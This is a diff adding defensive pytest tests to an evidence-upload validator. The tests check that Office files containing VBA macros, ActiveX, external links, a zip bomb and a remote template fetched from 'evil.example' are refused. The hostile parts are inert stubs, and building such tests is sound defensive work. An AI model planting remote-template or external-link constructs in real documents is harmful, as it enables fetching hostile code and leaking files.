@@ -116,7 +116,7 @@ def test_office_and_text_files_get_their_type_and_extension(world, media):
 
 @pytest.mark.parametrize(("data", "node", "code"), [
     (EXE, "zj-sys-1", "evidence_type"),
-    (office("docx", macro=True), "zj-sys-1", "evidence_type"),
+    (office("docx", macro=True), "zj-sys-1", "evidence_macros"),
     (b"", "zj-sys-1", "evidence_empty"),
     (PDF, "zj-sys", "unknown_node"),            # a category, not an indicator
     (PDF, "zj-nothing", "unknown_node"),
@@ -128,6 +128,78 @@ def test_refused_files_leave_nothing_behind(world, media, data, node, code):
         add_evidence(assessment=a, node_id=node, uploaded_file=upload(data), by=world.secretary_a1)
     assert refused.value.code == code and refused.value.message_zh
     assert not Evidence.objects.exists() and not media.exists()
+
+
+def with_parts(data: bytes, parts: dict[str, bytes | str], compression=zipfile.ZIP_DEFLATED) -> bytes:
+    """``data`` (a zip) with ``parts`` added."""
+    buffer = io.BytesIO(data)
+    with zipfile.ZipFile(buffer, "a", compression=compression) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return buffer.getvalue()
+
+
+def workbook() -> bytes:
+    from openpyxl import Workbook
+
+    book = Workbook()
+    book.active["A1"] = "党费"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
+
+
+EXTERNAL_REL = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>')
+HOSTILE = {
+    "vba_in_xlsx": (with_parts(workbook(), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "evidence_macros", "宏"),
+    "vba_in_docx": (with_parts(office("docx"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "evidence_macros", "宏"),
+    "activex": (with_parts(office("docx"), {"word/activeX/activeX1.bin": b"\x00"}), "evidence_macros", "ActiveX"),
+    "external_workbook": (with_parts(workbook(), {
+        "xl/externalLinks/externalLink1.xml": "<externalLink/>",
+        "xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL_REL.format(
+            kind="externalLinkPath", target="file:///C:/机密/工资.xlsx")}), "evidence_external", "外部链接"),
+    "remote_template": (with_parts(office("docx"), {"word/_rels/settings.xml.rels": EXTERNAL_REL.format(
+        kind="attachedTemplate", target="http://evil.example/t.dotm")}), "evidence_external", "外部链接"),
+    "zip_bomb": (with_parts(office("docx"), {"word/media/image1.bmp": bytes(3 * 1024 * 1024)}),
+                 "evidence_zip_bomb", "异常膨胀"),
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_office_files_with_macros_links_or_absurd_expansion_are_refused(world, media, name):
+    data, code, said = HOSTILE[name]
+    a = world.assessment(world.a1)
+
+    with pytest.raises(EvidenceRefused) as refused:
+        add_evidence(assessment=a, node_id="zj-sys-1", uploaded_file=upload(data, "材料.xlsx"), by=world.secretary_a1)
+
+    assert refused.value.code == code and said in refused.value.message_zh
+    assert not Evidence.objects.exists() and not media.exists()
+
+
+def test_hyperlinks_and_stored_images_are_not_external_content(world, media):
+    document = with_parts(office("docx"), {
+        "word/_rels/document.xml.rels": EXTERNAL_REL.format(kind="hyperlink", target="http://www.12371.cn/"),
+        "word/media/image1.png": PNG + bytes(2 * 1024 * 1024)}, compression=zipfile.ZIP_STORED)
+
+    ev = add_evidence(assessment=world.assessment(world.a1), node_id="zj-sys-1", uploaded_file=upload(document, "记录.docx"),
+                      by=world.secretary_a1)
+
+    assert ev.original_name == "记录.docx"
+
+
+def test_the_zip_is_judged_from_its_directory_without_expanding(monkeypatch):
+    from chuangxing.assessments import evidence
+
+    bomb = with_parts(office("docx"), {"word/media/image1.bmp": bytes(3 * 1024 * 1024)})
+    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *a, **k: pytest.fail("a member was expanded"))
+
+    with pytest.raises(EvidenceRefused) as refused:
+        evidence.check_archive(bomb)
+
+    assert "异常膨胀" in refused.value.message_zh and "word/media/image1.bmp" in refused.value.message_zh
 
 
 def test_the_default_limit_reads_in_megabytes():
